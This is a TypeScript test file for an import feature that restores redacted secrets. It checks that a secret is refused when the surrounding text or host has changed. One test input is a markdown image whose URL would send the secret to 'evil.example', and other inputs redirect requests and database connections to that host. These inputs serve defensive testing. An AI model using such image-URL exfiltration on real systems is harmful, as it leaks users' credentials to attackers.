import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { draftedFor, fillRecords, type Values } from "../../support/drafted-secrets.ts";
import type { Plan, StackRecord } from "../../support/import-stage.ts";
import { recordsOn } from "../../support/on-stack.ts";
import { hexId, records } from "../../support/stack-records.ts";
import { propertyRuns } from "../../support/tries.ts";
import { archiveOf, importWith, MARK, note, resultOf, runbook, RUNBOOK, TEXT } from "./runbook.ts";

// An answer is used only where the text and the addresses around its placeholder are those for which it was drafted.

const SECRET = "s3cret-of-old";
const CONNECTION = `connections/${hexId("c", 1)}`;

/** Returns the secret as the answer for one place of each record. */
const answersAt = (pointer: string, archive: readonly StackRecord[]): Values =>
  Object.fromEntries(archive.map(({ kind, id }) => [`${kind}/${id}`, { [pointer]: SECRET }]));

const text = (markdown: string): StackRecord[] => archiveOf(runbook(markdown));
const request = (url: string): StackRecord[] => archiveOf(runbook("", { tiles: [note("plain", { url, auth: MARK })] }));
/** Makes a tile with a secret two members below one with an address, and another tile with a link. */
const nestedRequest = (url: string, link: string): StackRecord[] =>
  archiveOf(runbook("", { tiles: [note("plain", { target: [{ url }], auth: { password: MARK } }), note(link)] }));
const connectionTo = (host: string): StackRecord[] =>
  records({ connections: [{ id: hexId("c", 1), name: "Main", host, username: "reader", createdAt: `${host}.now` }] });

const password = text(`password: ${MARK}`);
const good = request("https://good.example/");
const nested = nestedRequest("https://good.example/", "https://one.example/");
const database = connectionTo("http://db:8123");

type MissingSecret = Plan["missingSecrets"][number];
type Case = [string, drafted: StackRecord[], now: StackRecord[], missing: Partial<MissingSecret> & { pointer: string }];

describe("an answer that was drafted for another text", () => {
  it.each<Case>([
    ["an image of a stranger", password, text(`![](https://evil.example/p.png?k=${MARK})`), { pointer: TEXT }],
    ["one word more", password, text(`password: ${MARK}!`), { pointer: TEXT }],
    ["another rule", password, text("password: «redacted:jwt»"), { pointer: TEXT }],
    ["a second placeholder", password, text(`password: ${MARK}${MARK}`), { pointer: TEXT }],
    ...["https://evil.example/", "evil.example", "//evil.example", "evil:8080"].map((url): Case => [
      `${url} beside it`,
      good,
      request(url),
      { pointer: "/tiles/0/config/auth" },
    ]),
    [
      "another address elsewhere in its tile",
      nested,
      nestedRequest("https://evil.example/", "https://one.example/"),
      { pointer: "/tiles/0/config/auth/password" },
    ],
    [
      "a connection to another host",
      database,
      connectionTo("http://evil.example"),
      { pointer: "/password", around: ["host http://evil.example"], writeOnly: true },
    ],
  ])("is neither used nor shown: %s", async (_, drafted, now, missing) => {
    const filled = await importWith(now, answersAt(missing.pointer, now), { drafted });
    expect(resultOf(filled)).toEqual(["blocked secret-refused", 3, []]);
    expect(filled.run.plan.missingSecrets).toMatchObject([missing]);
    expect(filled.shown).not.toContain(SECRET);
  });

  it("lands in no other text, whatever the two are", () => {
    const parts = fc.array(fc.constantFrom(MARK, "«redacted:jwt»", "https://a.example/?k=", " ", "x", "![](", ")"), {
      minLength: 1,
      maxLength: 4,
    });
    fc.assert(
      fc.property(parts, parts, (old, now) => {
        const [before, after] = [old.join(""), now.join("")];
        const count = old.filter((part) => part.startsWith("«")).length;
        fc.pre(count > 0);
        const answers = draftedFor(text(before), {
          [RUNBOOK]: { [TEXT]: Array.from({ length: count }, () => SECRET) },
        });
        const made = fillRecords(text(after), answers, () => true);
        expect(JSON.stringify(made.records).includes(SECRET)).toBe(before === after);
      }),
      propertyRuns(),
    );
  });
});

it.each<[string, drafted: StackRecord[], now: StackRecord[], pointer: string, stored: string]>([
  [
    "the rest of the record has changed",
    password,
    archiveOf({ ...runbook(`password: ${MARK}`), tags: ["new"], updatedAt: "2031-01-01T00:00:00.000Z" }),
    TEXT,
    `password: ${SECRET}`,
  ],
  [
    "a link of another tile has changed",
    nested,
    nestedRequest("https://good.example/", "https://two.example/"),
    "/tiles/0/config/auth/password",
    SECRET,
  ],
  ["nothing has changed", database, database, "/password", `"password":"${SECRET}"`],
])("an answer is used where %s", async (_, drafted, now, pointer, stored) => {
  const { stack } = await importWith(now, answersAt(pointer, now), { drafted });
  expect(JSON.stringify(now.map(({ kind }) => recordsOn(stack, kind)))).toContain(stored);
});

it("an answer without a context is never used, unless it says that there was no value", () => {
  const archive = [...password, ...database];
  const fill = (...answers: [Parameters<typeof fillRecords>[1]]) => fillRecords(archive, ...answers, () => true);
  const made = fill({
    [RUNBOOK]: { [TEXT]: [{ value: SECRET }] },
    [CONNECTION]: { "/password": [{ value: SECRET }] },
  });
  expect(JSON.stringify(made.records)).not.toContain(SECRET);
  const none = fill({ [CONNECTION]: { "/password": [{ value: null }] } });
  expect([...none.fillings.values()].map(({ supplied }) => [...supplied])).toEqual([["/password"]]);
});
